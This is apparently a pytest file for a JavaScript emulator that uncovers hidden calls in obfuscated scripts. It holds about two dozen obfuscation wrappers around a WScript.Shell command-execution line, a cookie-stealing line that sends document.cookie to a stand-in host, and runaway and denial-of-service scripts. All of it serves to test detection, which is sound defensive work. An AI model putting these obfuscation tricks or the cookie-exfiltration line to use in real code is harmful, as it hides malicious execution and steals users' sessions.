"""JavaScript evaluated without a system: the code that it builds, the calls that it makes, and the limits."""

# ruff: noqa: E501 - scripts under test stand as they would be written

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svc.assistant.findings import Finding, with_facts
from svc.assistant.skills.script.commands import syntax_tree
from svc.assistant.skills.script.findings import ScriptStage, ScriptSummary
from svc.assistant.skills.script.javascript.evaluation import Evaluation, evaluate
from svc.assistant.skills.script.javascript.machine import MAX_CALLS, MAX_EXECUTED
from svc.assistant.skills.script.language import Language
from svc.assistant.skills.script.tool import inspect

TARGET = 'new ActiveXObject("WScript.Shell").Run("cmd /c calc", 0);'


def evaluation(text: str) -> Evaluation:
    return evaluate(text, lambda source: syntax_tree(source, Language.JAVASCRIPT))


def codes(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def escaped(text: str) -> str:
    return "".join(f"\\x{ord(char):02x}" for char in text)


def in_functions(text: str) -> str:
    pieces = [text[start : start + 5] for start in range(0, len(text), 5)]
    defined = "".join(f"function f{number}() {{ r += '{piece}'; }}\n" for number, piece in enumerate(pieces))
    return f"var r = '';\n{defined}{''.join(f'f{number}();' for number in range(len(pieces)))}\nthis['ev' + 'al'](r);"


def in_rotated_list(text: str) -> str:
    words = ["log", "WScript.Shell", "cmd /c calc", "Run", "4711z"]
    listed = ",".join(f"'{base64.b64encode(word.encode()).decode()}'" for word in (*words[2:], *words[:2]))
    return f"""var _0xa1 = [{listed}];
(function (list, goal) {{ while (!![]) {{ try {{ if (parseInt(atob(list[4])) === goal) break; else list.push(list.shift()); }} catch (e) {{ list.push(list.shift()); }} }} }})(_0xa1, 4711);
function _0xb2(i) {{ i = i - 0x1f0; return atob(_0xa1[i]); }}
new ActiveXObject(_0xb2(0x1f1))[_0xb2(0x1f3)](_0xb2(0x1f2), 0);"""


def packed(text: str) -> str:
    words = ["0", "new", "ActiveXObject", "WScript", "Shell", "Run", "cmd", "calc"]
    for number, word in enumerate(words[1:], start=1):
        text = text.replace(word, str(number))
    quoted = text.replace("\\", "\\\\").replace("'", "\\'")
    return f"eval(function(p,a,c,k,e,d){{while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}}('{quoted}',{len(words)},{len(words)},'{'|'.join(words)}'.split('|')))"


HIDDEN = {
    "eval": f"eval('{TARGET}')",
    "character codes": f"eval(String.fromCharCode({codes(TARGET)}))",
    "character codes in a loop": f"var c=[{codes(TARGET)}],s='';for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]);eval(s)",
    "a key": f"var c=[{','.join(str(ord(char) ^ 23) for char in TARGET)}];eval(c.map(function(x){{return String.fromCharCode(x^23)}}).join(''))",
    "unescape": f"eval(unescape('{''.join(f'%{ord(char):02x}' for char in TARGET)}'))",
    "atob": f"eval(atob('{base64.b64encode(TARGET.encode()).decode()}'))",
    "hexadecimal": f"var h='{TARGET.encode().hex()}',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));eval(s)",
    "escapes": f'eval("{escaped(TARGET)}")',
    "functions": in_functions(TARGET),
    "reversed": f"eval('{TARGET[::-1]}'.split('').reverse().join(''))",
    "replaced": f"eval('{TARGET.replace('e', 'QQ')}'.replace(/QQ/g, 'e'))",
    "Function": f"new Function('{TARGET}')()",
    "constructor": f"[]['filter']['constructor']('{TARGET}')()",
    "setTimeout": f"setTimeout('{TARGET}', 10)",
    "a list that is rotated": in_rotated_list(TARGET),
    "packed": packed(TARGET),
    "members": "var o=new ActiveXObject(['WSc','ript.S','hell'].join(''));o['R'+'un'](['cmd',' /c calc'].join(''),0);",
    "another name": f"var q=eval; var w=this; w.q2=q; q2('{TARGET}')",
    "a caught error": f"try {{ null.x; }} catch (e) {{ eval('{TARGET}'); }}",
    "behind a check": f"if (navigator.userAgent.indexOf('MSIE') > 0) {{ eval('{TARGET}'); }}",
    "a function that the page calls": f"document.onload = function () {{ eval('{TARGET}'); }};",
    "conditional compilation": f"/*@cc_on @if (@_win32) eval('{TARGET}'); @end@*/",
    "switch": f"switch ([3].length) {{ case 0: break; case 1: eval('{TARGET}'); }}",
}  # fmt: skip


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_hidden_calls_are_found_with_their_arguments(text: str):
    assert any('ActiveXObject("WScript.Shell").Run("cmd /c calc", 0)' in call for call in evaluation(text).calls)


VALUES = {
    "1 + '2'": "12", "'3' * '4'": "12", "[] + {}": "[object Object]", "![] + []": "false", "[][[]] + []": "undefined",
    "(25).toString(36)": "p", "parseInt('0x1f')": "31", "0.1 + 0.2": "0.30000000000000004", "1 / 0": "Infinity",
    "'abc'.substr(-2, 1)": "b", "~~'7.9'": "7", "-1 >>> 28": "15", "typeof null": "object", "[1,[2,3]] + ''": "1,2,3",
    "'a-b-c'.split('-', 2).join('+')": "a+b", "`${1 + 1}x`": "2x", "'ab'.replace(/(a)(b)/, '$2$1')": "ba",
    "(function () { return arguments.length })(1, 2)": "2", "(x => x * 2)(4)": "8", "1e21 + ''": "1e+21",
    "var s = ''; for (var k in {a: 1, b: 2}) s += k; s": "ab", "[3, 1, 2].sort().join('')": "123",
    "Array.prototype.slice.call('abc'.split(''), 1).join('')": "bc", "escape('ü')": "%FC", "+[] + 'x'": "0x",
    "String.fromCharCode.apply(null, [72, 105])": "Hi", "Buffer.from('aGk=', 'base64').toString()": "hi",
}  # fmt: skip


@pytest.mark.parametrize(("expression", "value"), VALUES.items(), ids=VALUES)
def test_expressions_have_the_values_of_the_language(expression: str, value: str):
    *first, last = expression.split("; ")
    [executed] = evaluation(f"{'; '.join(first)}; eval('//' + ({last}))").executed
    assert executed.text == f"//{value}"


def test_what_only_the_system_could_give_keeps_its_origin():
    calls = evaluation("new Image().src = 'http://c.example/?' + btoa(escape(document.cookie));").calls
    assert calls[-1] == 'new Image().src = "http://c.example/?⟨document.cookie⟩";'


ENDLESS = {
    "loop": "while (true) { var x = 1; }",
    "recursion": "function f() { return f() + f(); } f();",
    "growing text": "var s = 'aaaaaaaaaa'; while (true) { s += s; }",
    "growing list": "var a = []; while (true) { a.push(a.concat(a)); }",
    "pattern": "/(a+)+$/.test('" + "a" * 5_000 + "b'); /a*a*a*b/.test('" + "a" * 5_000 + "');",
    "repeat": "'x'.repeat(1e9).padStart(1e9);",
    "numbers": "var n = 9; while (true) { n = n * n; n = n << 31; }",
    "eval": "var t = 'eval(t)'; eval(t);",
    "calls": "for (;;) { fetch('http://a.example/' + Math.random() + i++); } var i = 0;",
    "nesting": "(" * 3_000 + "1" + ")" * 3_000,
    "chain": "var a = 1;" + "a" + ".b" * 3_000,
    "array": "var a = []; a[1e9] = 1; a.length = 1e9; new Array(1e9); Array.from({length: 1e9});",
    "timer": "function f() { setTimeout(f, 1); new Image().src = 'http://a.example/'; } f();",
}  # fmt: skip


@pytest.mark.parametrize("text", ENDLESS.values(), ids=ENDLESS)
def test_hostile_scripts_end(text: str):
    found = evaluation(text)
    assert len(found.calls) <= MAX_CALLS
    assert len(found.executed) <= MAX_EXECUTED


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="abfor(){}[];=+!,'\"./*x1 \n\\&|?:<>$", max_size=120))
def test_any_text_can_be_evaluated(text: str):
    evaluation(text)


def test_a_readable_page_hides_nothing():
    text = "var base = 'https://www.example.org'; document.title = 'Hi'; fetch(base + '/api/items').then(function (r) { return r.json(); });"
    findings = [one for one in inspect(text, source="page.js") if isinstance(one, Finding)]
    assert with_facts(findings, ScriptSummary)[0].facts.verdict == "ordinary"
    assert not any(one.facts.is_hidden for one in with_facts(findings, ScriptStage))


def test_the_stage_of_calls_says_what_could_not_be_read():
    findings = [one for one in inspect(HIDDEN["members"], source="a.js") if isinstance(one, Finding)]
    [stage] = [one.facts for one in with_facts(findings, ScriptStage) if one.facts.how.startswith("calls")]
    assert stage.text.startswith("Names built at run time: WScript.Shell, Run")
